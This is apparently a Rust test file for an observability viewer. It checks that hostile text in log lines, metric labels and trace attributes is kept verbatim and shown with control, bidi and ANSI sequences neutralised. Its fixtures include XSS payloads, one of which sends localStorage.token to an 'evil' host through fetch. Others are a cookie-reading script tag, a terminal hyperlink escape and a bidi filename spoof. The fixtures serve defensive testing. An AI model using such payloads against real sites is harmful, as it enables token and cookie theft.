//! Hostile text in log lines, label values and trace attributes: parsed verbatim, shown as plain text with only
//! control, bidi and ANSI sequences neutralised (nothing else lost), never a panic, in reasonable time.

mod common;

use serde_json::json;
use trifocal::backends::loki::LokiResult;
use trifocal::backends::{jaeger, loki, otlp, prometheus};
use trifocal::telemetry::{AttrValue, LogResult, Trace};
use trifocal::url_state::{decode, encode, LogsState, Route, TraceState};
use trifocal::view::log_text::{shorten, strip_controls, truncate};
use trifocal::view::palette::Palette;
use trifocal::view::series_view::{default_name, prepare};
use trifocal::view::trace::find::{find, FindQuery};
use trifocal::view::trace::TraceModel;

const TRACE_ID: &str = "4bf92f3577b34da6a3ce929d0e0e4736";

/// Hostile texts and what `strip_controls` must make of each.
fn hostile() -> Vec<(String, String)> {
    let r = "\u{fffd}";
    vec![
        ("<script>alert(document.cookie)</script>".into(), "<script>alert(document.cookie)</script>".into()),
        ("<img src=x onerror=\"fetch('//evil/'+localStorage.token)\">".into(), "<img src=x onerror=\"fetch('//evil/'+localStorage.token)\">".into()),
        ("\"><svg/onload=alert(1)>&lt;&amp;".into(), "\"><svg/onload=alert(1)>&lt;&amp;".into()),
        ("\u{1b}[1;31mERROR\u{1b}[0m disk \u{1b}[4mfull\u{1b}[24m".into(), "ERROR disk full".into()),
        ("title\u{1b}]0;pwned\u{7} link \u{1b}]8;;http://evil\u{1b}\\click\u{1b}]8;;\u{1b}\\".into(), "title link click".into()),
        ("invoice_\u{202e}fdp.exe".into(), format!("invoice_{r}fdp.exe")),
        ("a\u{2066}b\u{2067}c\u{2068}d\u{2069}e\u{200e}f\u{200f}g\u{061c}h".into(), format!("a{r}b{r}c{r}d{r}e{r}f{r}g{r}h")),
        ("nul\u{0}byte\u{7}bell\u{8}bs\u{7f}del\rcr".into(), format!("nul{r}byte{r}bell{r}bs{r}del{r}cr")),
        ("line1\nline2\ttabbed".into(), "line1⏎line2\ttabbed".into()),
        ("👩\u{200d}👩\u{200d}👧\u{200d}👦 🏳\u{fe0f}\u{200d}🌈 🇺🇦 é\u{301} ﷽ 𝔘𝔫𝔦𝔠𝔬𝔡𝔢".into(), "👩\u{200d}👩\u{200d}👧\u{200d}👦 🏳\u{fe0f}\u{200d}🌈 🇺🇦 é\u{301} ﷽ 𝔘𝔫𝔦𝔠𝔬𝔡𝔢".into()),
        ("עברית mixed العربية text".into(), "עברית mixed العربية text".into()),
        (format!("trace_id={TRACE_ID} \u{202e}reversed"), format!("trace_id={TRACE_ID} {r}reversed")),
        ("unterminated \u{1b}[31".into(), "unterminated ".into()),
        ("\u{85}next-line \u{2028}ls \u{2029}ps".into(), format!("{r}next-line \u{2028}ls \u{2029}ps")),
    ]
}

/// Nothing left that can reorder text or act as a terminal/control sequence.
fn is_inert(s: &str) -> bool {
    s.chars().all(|c| {
        let bidi = matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{200e}' | '\u{200f}' | '\u{061c}');
        !bidi && (!c.is_control() || c == '\t')
    })
}

fn loki_body(streams: &[(serde_json::Value, Vec<(String, String)>)]) -> String {
    let result: Vec<_> = streams.iter().map(|(labels, values)| json!({"stream": labels, "values": values})).collect();
    json!({"status": "success", "data": {"resultType": "streams", "result": result, "stats": {}}}).to_string()
}

fn logs(body: &str) -> LogResult {
    match loki::convert::parse_query(200, "application/json", body, &[]) {
        Ok(LokiResult::Logs(l)) => l,
        other => panic!("expected logs, got {:?}", other.map(|_| ())),
    }
}

#[test]
fn loki_lines_and_labels_stay_verbatim_and_show_inert() {
    let cases = hostile();
    let label_value = format!("{}<b>{}</b>\u{202e}", "v".repeat(100_000), "🙂".repeat(1000));
    let values: Vec<(String, String)> = cases.iter().enumerate().map(|(i, (line, _))| ((1_700_000_000_000_000_000u64 + i as u64).to_string(), line.clone())).collect();
    let labels = json!({"job": "<script>x</script>", "service_name": "svc\u{202e}gnp", "big": label_value, "👩\u{200d}💻": "\u{0}"});
    let r = logs(&loki_body(&[(labels, values)]));
    assert_eq!(r.entries.len(), cases.len());
    for e in &r.entries {
        let i = (e.ts_ns - 1_700_000_000_000_000_000) as usize;
        let (line, shown) = &cases[i];
        assert_eq!(&e.line, line, "the parsed line is the line as sent");
        assert_eq!(&strip_controls(&e.line), shown, "shown form of {line:?}");
        assert!(is_inert(&shorten(&e.line, 20)), "{line:?}");
        assert_eq!(e.stream.get("big"), Some(label_value.as_str()));
        assert_eq!(e.stream.get("job"), Some("<script>x</script>"));
        assert_eq!(e.stream.get("👩\u{200d}💻"), Some("\u{0}"));
    }
    let with_id = r.entries.iter().find(|e| e.line.starts_with("trace_id=")).unwrap();
    assert_eq!(with_id.trace_id.map(|t| t.to_hex()).as_deref(), Some(TRACE_ID));
    // Label text shown next to lines is made inert the same way and keeps everything else.
    let shown = strip_controls(&e_label(&r));
    assert!(is_inert(&shown) && shown.contains("<b>") && shown.contains(&"🙂".repeat(1000)));
}

fn e_label(r: &LogResult) -> String {
    r.entries[0].stream.iter().map(|(k, v)| format!("{k}={v}")).collect::<Vec<_>>().join(" ")
}

#[test]
fn a_one_megabyte_line_is_kept_whole_and_shortened_for_display() {
    let mut line = String::with_capacity(1_100_000);
    while line.len() < 1_000_000 {
        line.push_str("é👩\u{200d}💻<i>\u{1b}[0m\u{202e}x ");
    }
    let body = loki_body(&[(json!({"job": "big"}), vec![("1700000000000000000".into(), line.clone())])]);
    let r = logs(&body);
    assert_eq!(r.entries[0].line, line);
    let full = strip_controls(&line);
    assert!(is_inert(&full));
    // Only the ANSI reset (4 chars) and the bidi override (1 char, replaced) are touched per repeat.
    assert_eq!(full.matches("<i>").count(), line.matches("<i>").count());
    assert_eq!(full.matches("👩\u{200d}💻").count(), line.matches("👩\u{200d}💻").count());
    for max in [1, 2, 3, 1000, 4095, 100_000] {
        let s = shorten(&line, max);
        assert!(s.ends_with(&format!("… ({} bytes)", line.len())), "{max}");
        assert!(is_inert(&s));
        assert!(truncate(&line, max).len() <= max);
    }
}

#[test]
fn prometheus_label_values_stay_verbatim() {
    let big = "x".repeat(100_000);
    let body = json!({"status": "success", "data": {"resultType": "vector", "result": [
        {"metric": {"__name__": "up", "job": "<img src=x onerror=alert(1)>", "note": "a\u{202e}b\u{0}c", "big": big}, "value": [1700000000.5, "1"]}
    ]}})
    .to_string();
    let r = prometheus::convert::parse_query(200, "application/json", &body).unwrap();
    let labels = &r.series[0].labels;
    assert_eq!(labels.get("job"), Some("<img src=x onerror=alert(1)>"));
    assert_eq!(labels.get("note"), Some("a\u{202e}b\u{0}c"));
    assert_eq!(labels.get("big"), Some(big.as_str()));
    let name = default_name(labels);
    assert!(name.contains("<img src=x onerror=alert(1)>"));
    let views = prepare(&r.series, &[], 1_700_000_000_000, 1_700_000_001_000, 300, Palette::default());
    assert!(views[0].key.contains(&big));
    let shown = strip_controls(&views[0].name);
    assert!(is_inert(&shown) && shown.contains("a\u{fffd}b\u{fffd}c"));
}

fn otlp_doc(cases: &[(String, String)]) -> String {
    let attrs: Vec<_> = cases.iter().enumerate().map(|(i, (v, _))| json!({"key": format!("k{i}"), "value": {"stringValue": v}})).collect();
    let spans: Vec<_> = cases
        .iter()
        .enumerate()
        .map(|(i, (name, _))| {
            json!({"traceId": TRACE_ID, "spanId": format!("{:016x}", i + 1), "parentSpanId": if i == 0 { String::new() } else { "0000000000000001".into() },
                   "name": name, "kind": 2, "startTimeUnixNano": (1_700_000_000_000_000_000u64 + i as u64 * 1000).to_string(),
                   "endTimeUnixNano": (1_700_000_000_000_100_000u64).to_string(), "attributes": attrs,
                   "events": [{"timeUnixNano": "1700000000000000500", "name": name, "attributes": attrs}],
                   "status": {"code": 2, "message": name}})
        })
        .collect();
    json!({"resourceSpans": [{"resource": {"attributes": [{"key": "service.name", "value": {"stringValue": "svc <b>\u{202e}"}}]},
                              "scopeSpans": [{"scope": {"name": "<scope>"}, "spans": spans}]}]})
    .to_string()
}

fn assert_trace_verbatim(t: &Trace, cases: &[(String, String)]) {
    assert_eq!(t.spans.len(), cases.len(), "{:?}", t.warnings);
    for (i, s) in t.spans.iter().enumerate() {
        assert_eq!(s.name, cases[i].0);
        assert_eq!(strip_controls(&s.name), cases[i].1);
        for (j, a) in s.attributes.iter().filter(|a| a.key.starts_with('k')).enumerate() {
            assert_eq!(a.value, AttrValue::Str(cases[j].0.clone()), "attribute k{j}");
            assert_eq!(strip_controls(&a.value.to_string()), cases[j].1);
        }
    }
}

#[test]
fn trace_names_and_attributes_stay_verbatim() {
    let cases = hostile();
    let t = otlp::parse_traces_data(&otlp_doc(&cases)).unwrap();
    assert_trace_verbatim(&t, &cases);
    assert_eq!(&*t.spans[0].service, "svc <b>\u{202e}");
    assert_eq!(t.spans[0].events[0].name, cases[0].0);
    // Through the Jaeger v3 envelope too.
    let v3 = format!("{{\"result\":{}}}", otlp_doc(&cases));
    assert_trace_verbatim(&jaeger::convert::parse_trace_v3(200, "application/json", &v3).unwrap(), &cases);
    // The model and find work on such text: find by a hostile fragment hits exactly the spans holding it.
    let m = TraceModel::build(&t);
    assert_eq!(m.rows.len(), t.spans.len());
    assert_eq!(m.services[0].0, "svc <b>\u{202e}");
    for (needle, expect_all) in [("<script>", true), ("👩\u{200d}👩", true), ("onerror", true), ("\u{202e}", true), ("no such text", false)] {
        let rows = find(&m, &t, &FindQuery::parse(&format!("\"{needle}\"")));
        // Every span carries every hostile text as an attribute value.
        assert_eq!(rows.len(), if expect_all { t.spans.len() } else { 0 }, "{needle:?}");
    }
}

#[test]
fn jaeger_classic_tags_stay_verbatim() {
    let cases = hostile();
    let tags: Vec<_> = cases.iter().enumerate().map(|(i, (v, _))| json!({"key": format!("k{i}"), "type": "string", "value": v})).collect();
    let spans: Vec<_> = cases
        .iter()
        .enumerate()
        .map(|(i, (name, _))| json!({"traceID": TRACE_ID, "spanID": format!("{:x}", i + 1), "operationName": name, "references": [],
                                     "startTime": 1_700_000_000_000_000u64 + i as u64, "duration": 10, "processID": "p1", "tags": tags,
                                     "logs": [{"timestamp": 1_700_000_000_000_001u64, "fields": [{"key": "event", "type": "string", "value": name}]}]}))
        .collect();
    let body = json!({"data": [{"traceID": TRACE_ID, "spans": spans, "processes": {"p1": {"serviceName": "<svc>\u{0}", "tags": tags}}}]}).to_string();
    let t = jaeger::convert::parse_trace_classic(200, "application/json", &body).unwrap();
    assert_trace_verbatim(&t, &cases);
    assert_eq!(&*t.spans[0].service, "<svc>\u{0}");
    assert_eq!(t.spans[3].events[0].name, cases[3].0);
}

#[test]
fn hostile_text_survives_the_url() {
    for (text, _) in hostile() {
        let logs = Route::Logs(LogsState { query: format!("{{job=\"x\"}} |= `{text}`"), filter: text.clone(), ..LogsState::default() });
        let link = encode(&logs);
        assert!(!link.chars().any(|c| c.is_control() || c.is_whitespace()), "{link:?}");
        let back = decode(&link);
        assert_eq!(back.route, logs, "{text:?} -> {link}");
        assert!(back.notices.is_empty());
        let trace = Route::Trace(TraceState { trace_id: TRACE_ID.into(), span: None, find: text.clone(), source: String::new() });
        assert_eq!(decode(&encode(&trace)).route, trace);
    }
}
